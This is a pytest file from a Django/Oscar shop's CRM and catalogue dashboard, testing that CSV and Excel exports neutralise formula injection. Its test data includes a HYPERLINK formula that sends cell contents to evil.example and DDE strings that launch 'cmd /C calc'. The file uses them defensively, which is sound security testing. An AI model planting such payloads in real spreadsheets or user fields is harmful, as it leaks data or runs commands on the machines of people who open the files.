"""Formula injection: text a buyer or customer wrote that starts like a spreadsheet formula is
never written as one, in any export (CSV or Excel). Every test downloads the real file over
HTTP as the owner and reads it back: with openpyxl (no cell is a formula) or the csv module
(no cell starts with = + - @, tab or carriage return)."""

import csv
import io
import re
from decimal import Decimal

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from oscar.core.loading import get_model

from crm.feedback import record_contact_message, record_order_complaint
from crm.models import Campaign, Customer, Feedback, FeedbackSource
from crm.segments import refresh_segments
from crm.services import record_consent
from storefront.dashboard.quickcatalogue import services as catalogue
from tests.factories import make_order_row

pytestmark = pytest.mark.django_db

Product = get_model("catalogue", "Product")

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
ATTACKS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cells(response):
    text = b"".join(response.streaming_content if response.streaming else [response.content]).decode(
        "utf-8-sig"
    )
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_csv_is_safe(response, *expected):
    assert response.status_code == 200
    cells = csv_cells(response)
    # A plain signed number (a phone +62…) or a lone "-" computes nothing; anything else would.
    dangerous = [c for c in cells if c.startswith(FORMULA_STARTS) and not re.fullmatch(r"-|[+-][\d ]+", c)]
    assert not dangerous, dangerous
    for text in expected:
        assert "'" + text in cells, (text, cells)


def assert_xlsx_is_safe(response, *expected):
    """No formula cell; each attacker's text is there as written, a text cell that stays text
    when edited (quotePrefix, as if the owner had typed an apostrophe)."""
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.value for cell in cells if cell.data_type == "f"]
    by_value = {cell.value: cell for cell in cells}
    for text in expected:
        cell = by_value.get(text.replace("\r", "\n"))  # XML reads a carriage return as a line feed
        assert cell is not None, (text, list(by_value))
        assert cell.data_type == "s" and cell.quotePrefix == cell.value.startswith(FORMULA_STARTS), text


def test_feedback_export_with_complaints_and_survey_answers(owner):
    order = make_order_row(phone="081211110000", email="budi@example.com", name=f"{ATTACKS[3]} Budi")
    record_order_complaint(order, message=HYPERLINK)
    record_contact_message(name=ATTACKS[1], message=ATTACKS[2], email="tamu@example.com")
    Feedback.objects.create(source=FeedbackSource.SURVEY, order=order, nps=3, comment=ATTACKS[4])
    Feedback.objects.create(source=FeedbackSource.SURVEY, nps=9, comment=ATTACKS[5])

    assert_xlsx_is_safe(
        owner.get(reverse("dashboard:crm-feedback-export", args=["xlsx"])),
        HYPERLINK,
        ATTACKS[1],
        ATTACKS[2],
        ATTACKS[4],
        ATTACKS[5],
        f"{ATTACKS[3]} Budi",
    )
    assert_csv_is_safe(
        owner.get(reverse("dashboard:crm-feedback-export", args=["csv"])), HYPERLINK, *ATTACKS[1:3]
    )


def test_customer_export_and_personal_data(owner):
    make_order_row(phone="081211110000", email="budi@example.com", name=f"{HYPERLINK} Santoso")
    customer = Customer.objects.get()
    customer.city = ATTACKS[3]
    customer.save(update_fields=["city"])

    assert_xlsx_is_safe(
        owner.get(reverse("dashboard:crm-customer-export", args=["xlsx"])), customer.name, ATTACKS[3]
    )
    assert_csv_is_safe(
        owner.get(reverse("dashboard:crm-customer-export", args=["csv"])), customer.name, ATTACKS[3]
    )
    assert_csv_is_safe(
        owner.get(reverse("dashboard:crm-customer-data", args=[customer.pk, "csv"])), ATTACKS[3]
    )


def test_campaign_whatsapp_list(owner):
    make_order_row(phone="081211110000", email="budi@example.com", name="-2+3 Budi", days_ago=3)
    refresh_segments()
    customer = Customer.objects.get()
    record_consent(customer, "whatsapp", True, "counter")
    campaign = Campaign.objects.create(
        name="Promo", segment=customer.segment, subject="Promo", message='=HYPERLINK("x") halo {nama}'
    )
    assert_csv_is_safe(
        owner.get(reverse("dashboard:crm-campaign-whatsapp", args=[campaign.pk])), customer.name
    )


def test_catalogue_export_is_safe_and_imports_back_unchanged(owner):
    catalogue.add_product(
        title=HYPERLINK, price=Decimal(15000), num_in_stock=3, description="- katun\n- ukuran M"
    )
    assert_csv_is_safe(owner.get(reverse("dashboard:quick-catalogue-export", args=["csv"])), HYPERLINK)
    export = owner.get(reverse("dashboard:quick-catalogue-export", args=["xlsx"]))
    assert_xlsx_is_safe(export, HYPERLINK, "- katun\n- ukuran M")

    # The owner changes the price in Excel (which keeps each cell's type) and imports it back.
    workbook = openpyxl.load_workbook(io.BytesIO(export.content))
    workbook.active["D2"] = 17000
    edited = io.BytesIO()
    workbook.save(edited)
    preview = owner.post(
        reverse("dashboard:quick-catalogue-import"),
        {"spreadsheet": SimpleUploadedFile("p.xlsx", edited.getvalue())},
    )
    assert preview.context["updated"] == 1, preview.context["plan"].invalid_rows
    owner.post(
        reverse("dashboard:quick-catalogue-import"), {"token": preview.context["form"].initial["token"]}
    )
    product = Product.objects.get()
    assert (product.title, product.description) == (HYPERLINK, "- katun\n- ukuran M")
    assert product.stockrecords.get().price == Decimal(17000)

    # The same through CSV: the apostrophes come off again on import.
    csv_export = owner.get(reverse("dashboard:quick-catalogue-export", args=["csv"])).content
    preview = owner.post(
        reverse("dashboard:quick-catalogue-import"), {"spreadsheet": SimpleUploadedFile("p.csv", csv_export)}
    )
    assert preview.context["plan"].valid_rows[0].values["nama"] == HYPERLINK


def test_oscar_order_list_download_and_order_report(owner, django_user_model):
    buyer = django_user_model.objects.create_user(email="b@example.com", password="x", first_name=HYPERLINK)
    order = make_order_row(user=buyer, name=f"{ATTACKS[3]} Budi", days_ago=0)
    response = owner.post(
        reverse("dashboard:order-list"), {"action": "download_selected_orders", "selected_order": [order.pk]}
    )
    assert_csv_is_safe(response, f"{ATTACKS[3]} Budi")

    report = owner.get(
        reverse("dashboard:reports-index"), {"report_type": "order_report", "download": "true"}
    )
    assert_csv_is_safe(report, HYPERLINK)
